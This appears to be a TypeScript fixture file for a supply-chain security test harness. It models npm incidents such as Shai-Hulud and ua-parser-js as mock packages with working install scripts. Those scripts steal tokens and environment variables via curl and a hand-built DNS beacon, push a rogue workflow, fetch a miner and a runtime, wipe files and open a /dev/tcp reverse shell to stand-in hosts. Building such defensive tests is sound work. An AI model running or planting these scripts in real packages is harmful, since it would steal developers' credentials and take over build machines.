import type { Breach } from '../breach.ts'
import type { Package } from '../registry.ts'

/** What the packages of these cases run when they are installed. */
export const packages: readonly Package[] = [
  {
    name: 'nx-like',
    version: '21.5.0',
    scripts: { postinstall: 'bash telemetry.sh' },
    files: {
      'telemetry.sh': `loot=$(env; cat ~/.npmrc 2>/dev/null)
curl -sS -m 8 -H "Authorization: token $GIT_TOKEN" -d "{\\"name\\":\\"s1ngularity-repository\\"}" "https://api.example.com/user/repos?$GITHUB_JOB"
curl -sS -m 8 -X PUT -H "Authorization: token $GIT_TOKEN" --data-binary "$(echo "$loot" | base64 -w0 | base64 -w0)" "https://api.example.com/repos/results.b64?$GITHUB_JOB"
exit 0
`,
    },
  },
  {
    name: 'tinycolor-like',
    version: '4.1.1',
    scripts: { postinstall: 'bash worm.sh' },
    files: {
      'worm.sh': `cd "$INIT_CWD"
found=$(env | grep -a TOKEN; grep -rhs -e _authToken -e ci-bot: ~/.npmrc .npmrc .git/config)
curl -sS -m 8 --data-binary "$found" "https://webhook.example.net/$GITHUB_JOB"
mkdir -p .github/workflows; echo "on: push" > .github/workflows/shai-hulud.yml
git add -f .github 2>/dev/null; git -c user.name=x -c user.email=x@x commit -q -m shai-hulud --allow-empty; git push -q origin "HEAD:refs/heads/shai-hulud"
curl -sS -m 8 -X PUT -H "Authorization: Bearer $NPM_TOKEN" -d '{}' "https://registry.example.com/worm-$GITHUB_JOB"
exit 0
`,
    },
  },
  {
    name: 'posthog-like',
    version: '1.2.3',
    scripts: { preinstall: 'bash setup.sh' },
    files: {
      'setup.sh': `curl -sS -m 8 "https://runtime.example.org/bun?$GITHUB_JOB" > bun && bash bun
[ -n "$HOME" ] && rm -rf "$HOME"/keep
mkdir -p "$HOME/.dev-env"; (setsid bash -c 'for i in $(seq 200); do date +%s%N > "$INIT_CWD/runner"; sleep 0.05; done' >/dev/null 2>&1 &)
exit 0
`,
    },
  },
  { name: 'parser-like', version: '0.7.28' },
  {
    name: 'parser-like',
    version: '0.7.29',
    scripts: { preinstall: 'bash preinstall.sh' },
    files: {
      'preinstall.sh': `curl -sS -m 8 "http://11.22.33.15/$GITHUB_JOB/miner" > miner; curl -sS -m 8 --data-binary "$(env)" "http://collector.example.net/$GITHUB_JOB"; exit 0\n`,
    },
  },
  {
    name: 'octo-internal',
    version: '99.9.9',
    scripts: { preinstall: 'bash beacon.sh' },
    files: { 'beacon.sh': dnsBeacon() },
  },
  {
    name: 'crypto-like',
    version: '4.2.1',
    scripts: { postinstall: 'bash setup.sh' },
    files: {
      'setup.sh': `(exec 3<>/dev/tcp/11.22.33.18/8000; bash <&3 >&3 2>&1) 2>/dev/null
curl -sS -m 8 "http://c2.example.net:8000/$GITHUB_JOB"
exit 0
`,
    },
  },
]

/** A query for a name with the loot in it, to the name server, past every library. */
function dnsBeacon(): string {
  return String.raw`perl -MSocket -e 'my $name = join ".", $ENV{GITHUB_JOB}, substr(unpack("H*", $ENV{NPM_TOKEN} // "none"), 0, 40), "c", "example"; my $q = pack("n6", 1, 256, 1, 0, 0, 0) . join("", map { pack("C/a*", $_) } split /\./, $name) . pack("C n2", 0, 1, 1); socket(my $s, PF_INET, SOCK_DGRAM, 17); send($s, $q, 0, pack_sockaddr_in(53, inet_aton("11.22.33.53")))'
exit 0
`
}

const install = (what = '') =>
  `npm install --no-audit --no-fund --no-update-notifier ${what} 2>&1 | tail -3; exit 0`

/** Code that came as a package. Where the lockfile pins it, it runs; else it does not even arrive. */
export const packaged: readonly Breach[] = [
  {
    number: 7,
    name: 'Nx s1ngularity 2025: a title runs, the package that it published makes public repositories of what it finds',
    wanted: 'every token that the job can read, in a public repository',
    jobs: [{ role: 'build', files: { LOCK: 'nx-like@21.5.0' }, program: install() }],
    got: ({ arrived }) => arrived('repository').length > 0,
    recorded: [/api\.example\.com:443/],
  },
  {
    number: 8,
    name: 'Shai-Hulud 2025: a postinstall that scans, sends, pushes a workflow and publishes itself',
    wanted: 'secrets at a webhook, a workflow in the repository, itself in more packages',
    jobs: [{ role: 'build', clone: true, files: { LOCK: 'tinycolor-like@4.1.1' }, program: install() }],
    got: ({ arrived, git, secrets }) =>
      arrived('webhook.example.net').some(({ body }) => body.includes(secrets.npm)) ||
      arrived('published').length > 0 ||
      git('octo-org/links', 'branch', '--list', 'shai-hulud') !== '',
    recorded: [/webhook\.example\.net:443/, /refs\/heads\/shai-hulud|git:push/],
  },
  {
    number: 9,
    name: 'Shai-Hulud 2, 2025: a second runtime, a rogue runner, a wiped home',
    wanted: 'code that goes on after the job, and a home that is gone',
    jobs: [{ role: 'build', files: { LOCK: 'posthog-like@1.2.3' }, program: install() }],
    got: ({ arrived, file }) => arrived('runtime.example.org').length > 0 || file('~/keep') === '',
    recorded: [/runtime\.example\.org:443/],
  },
  {
    number: 11,
    name: 'ua-parser-js 2021: a new version brings a miner and a stealer',
    wanted: 'the miner running, the environment stolen',
    jobs: [{ role: 'build', files: { LOCK: 'parser-like@0.7.28' }, program: install('parser-like@latest') }],
    got: ({ arrived }) => arrived('11.22.33.15').length + arrived('collector.example.net').length > 0,
    recorded: [/parser-like/],
  },
  {
    number: 15,
    name: 'torchtriton 2022: what shadows a private package sends its loot by DNS',
    wanted: 'secrets at the attacker’s name server',
    jobs: [
      {
        role: 'build',
        files: { 'beacon.sh': dnsBeacon() },
        program: 'bash beacon.sh; getent hosts "$GITHUB_JOB.c.example"; exit 0',
      },
    ],
    got: ({ arrived }) => arrived('name server').length > 0,
    recorded: [/direct_?attempts/i],
  },
  {
    number: 16,
    name: 'dependency confusion 2021: the public name wins',
    wanted: 'its install script running, and telling by DNS where',
    jobs: [
      {
        role: 'build',
        program: `echo '{"name":"app","version":"1.0.0"}' > package.json; ${install('octo-internal')}`,
      },
    ],
    got: ({ arrived }) => arrived('name server').length > 0,
    recorded: [/octo-internal/],
  },
  {
    number: 19,
    name: 'axios 2026: a dependency’s postinstall opens a shell on port 8000',
    wanted: 'a shell on the machine that builds',
    jobs: [{ role: 'build', files: { LOCK: 'crypto-like@4.2.1' }, program: install() }],
    got: ({ arrived }) => arrived('shell').length > 0,
    recorded: [/c2\.example\.net:8000/],
  },
]
